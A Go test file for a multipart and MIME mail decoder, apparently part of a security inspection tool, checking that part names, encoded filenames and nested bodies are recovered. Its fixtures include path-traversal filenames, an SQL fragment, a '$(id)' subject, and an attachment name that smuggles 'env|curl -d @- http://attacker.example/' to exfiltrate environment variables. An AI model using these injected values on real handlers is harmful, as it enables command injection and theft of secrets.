package decoders

import (
	"strings"
	"testing"
)

func crlf(lines ...string) string { return strings.Join(lines, "\r\n") }

func TestThePartsOfAMultipartBodyAreRead(t *testing.T) {
	body := crlf(
		"preamble", "--b", `Content-Disposition: form-data; name="field"`, "", "one", "two",
		"--b  ", `content-disposition: form-data; name="file"; filename="../../x;y.sh"`, "Content-Type: application/json", "", `{"k":"v"}`,
		"--b", `Content-Disposition: form-data; name=enc; filename*=UTF-8''%3Cimg%3E.png`, "Content-Transfer-Encoding: BASE64", "", base64Of("decoded <b>"),
		"--b", `Content-Disposition: form-data; name="qp \"x\""`, "Content-Transfer-Encoding: quoted-printable", "", "a=3Cb=", "c=",
		"--bb is none", "--b", `Content-Disposition: attachment;`, ` filename="folded.txt"`, `X-Other: =?utf-8?Q?=27_OR_1?=`, "", "--inner--",
		"--b--", "epilogue", "",
	)
	views := expand(body, Hint{ContentType: `multipart/form-data; charset=utf-8; boundary="b"`})
	for _, want := range []seen{
		{"field", "", false, true, true, false, "field", false},
		{"field", "", false, true, false, false, "one\r\ntwo", false},
		{`file.content-disposition`, "", false, true, true, false, "../../x;y.sh", false},
		{"file", "", false, true, false, true, `{"k":"v"}`, false},
		{"file → k", "", false, true, false, false, "v", false},
		{"enc.Content-Disposition", "", false, true, true, false, "UTF-8''%3Cimg%3E.png", false},
		{"enc.Content-Disposition", "url", false, false, true, false, "UTF-8''<img>.png", false},
		{"enc", "base64", false, true, false, false, "decoded <b>", false},
		{`qp \\\"x\\\"`, "quoted-printable", false, true, false, false, "a<bc--bb is none", false},
		{"[4].Content-Disposition", "", false, true, true, false, "folded.txt", false},
		{"[4].X-Other", "mime-word", false, false, false, false, "' OR 1", false},
		{"[4]", "", false, true, false, false, "--inner--", false},
	} {
		found := false
		for _, v := range views {
			if want.name && v.data == want.data && v.path == want.path+".Content-Disposition" {
				want.path = v.path
			}
			found = found || v == want
		}
		if !found {
			t.Errorf("missed: %+v", want)
		}
	}
	if t.Failed() {
		for _, v := range views {
			t.Logf("%+v", v)
		}
	}
}

// RFC 2231: a name behind its charset and language, whole and in pieces.
// The boundaries of Chrome and Safari hold the word, which is not another parameter by which to read all of it once more.
func TestABodyWhoseBoundaryIsNamedBoundaryIsReadOnce(t *testing.T) {
	const body = "--aBoundary9\r\nContent-Disposition: form-data; name=\"note\"\r\n\r\nring the bell\r\n--aBoundary9--\r\n"
	for _, contentType := range []string{
		"multipart/form-data; boundary=aBoundary9", "multipart/form-data; boundary=\"aBoundary9\"", "multipart/form-data; Boundary = aBoundary9",
	} {
		seen := 0
		for v := range NewExpander(Limits{}).Expand([]byte(body), Hint{ContentType: contentType}) {
			if string(v.Data) == "ring the bell" {
				seen++
			}
		}
		if seen != 1 {
			t.Errorf("%s: the part is read %d times", contentType, seen)
		}
	}
}

func TestNamesBehindTheirCharsetAreRead(t *testing.T) {
	for parameters, want := range map[string]string{
		`filename*=utf-8''%2e%2e%2fx`:                        "../x",
		`filename*=UTF-8'en'%3Cimg%3E`:                       "<img>",
		`filename*=''x%27`:                                   "x'",
		`filename*0*=iso-8859-1'de'%2e%2e; filename*1*=%2fx`: "../x",
		`filename*0*=utf-8''%2e%2e; filename*1="/x y"`:       "../x y",
		`name*="utf-8''a%20b"`:                               "a b",
	} {
		body := crlf("--b", "Content-Disposition: form-data; "+parameters, "", "one", "--b--", "")
		found := false
		for _, v := range expand(body, Hint{ContentType: "multipart/form-data; boundary=b"}) {
			found = found || v.name && v.data == want
		}
		if !found {
			t.Errorf("%s: %q is missed", parameters, want)
		}
	}
	for text, want := range map[string]string{
		"utf-8''x": "x", "utf-8'en'it's": "it's", "''": "", "it's": "", "a b'c'd": "", "": "",
	} {
		if _, got := cutCharset([]byte(text)); string(got) != want {
			t.Errorf("%q: %q, want %q", text, got, want)
		}
	}
}

func TestAMultipartBodyIsRecognisedByItsFirstLines(t *testing.T) {
	body := "------WebKitFormBoundaryAbC\nContent-Disposition: form-data; name=a\n\n" + base64Of(canary) + "\n------WebKitFormBoundaryAbC--\n"
	if v, ok := find(expand(body, Hint{}), canary); !ok || v.path != "a" || v.plain {
		t.Errorf("got %+v", v)
	}
	for _, value := range []string{"-- a comment\nselect: 1", "--\nx: y", "--- \nkey: [1, 2]\n...", "text\n--x\r\na: b"} {
		if views := expand(value, Hint{}); len(views) > 2 {
			t.Errorf("%q: %+v", value, views)
		}
	}
}

// An attachment's name, in a mail, in JSON, in JSON: a handler for incoming mail gets it so.
func TestTheAttachmentNamesOfAMailAreRead(t *testing.T) {
	const attack = `foobar;env|curl -d @- http://attacker.example/ #.pdf`
	mail := crlf(
		"From: a@example.com", "Subject: =?utf-8?B?"+base64Of("report $(id)")+"?=", "MIME-Version: 1.0",
		`Content-Type: multipart/mixed; boundary="outer"`, "", "--outer", `Content-Type: multipart/alternative; boundary=inner`, "",
		"--inner", "Content-Type: text/plain", "", "hello", "--inner--", "--outer",
		`Content-Type: application/pdf; name="=?UTF-8?Q?foobar=3Benv=7Ccurl_-d_@-_http://?= =?UTF-8?Q?attacker.example/_#.pdf?="`,
		"Content-Transfer-Encoding: base64", "", base64Of("%PDF-1.4 text"), "--outer",
		`Content-Disposition: attachment; filename*0="foobar;env|curl -d @- "; filename*1="http://attacker.example/ #.pdf"`, "", "x", "--outer--", "",
	)
	views := expand(`{"Message":`+quote(`{"content":`+quote(mail)+`}`)+`}`, Hint{})
	found := 0
	for _, v := range views {
		if v.data == attack && v.name {
			found++
		}
	}
	if found != 2 || !holds(views, "report $(id)") || !holds(views, "%PDF-1.4 text") || !holds(views, "hello") {
		t.Errorf("found %d times in %+v", found, views)
	}
}

func FuzzMultipart(f *testing.F) {
	f.Add([]byte("--b\r\nContent-Disposition: form-data; name=\"a\"; filename=\"b\\\"c\"\r\nContent-Transfer-Encoding: base64\r\n\r\nYQ==\r\n--b--"))
	f.Add([]byte("--b\nContent-Type: multipart/mixed; boundary=b\n\n--b\nx\n--b--"))
	f.Fuzz(func(t *testing.T, data []byte) {
		checkExpand(t, data, Hint{ContentType: "multipart/form-data; boundary=b"}, Limits{Depth: 3, Expansion: 1 << 16, Entries: 50})
		checkExpand(t, data, Hint{}, Limits{Depth: 3, Expansion: 1 << 16, Entries: 50})
	})
}
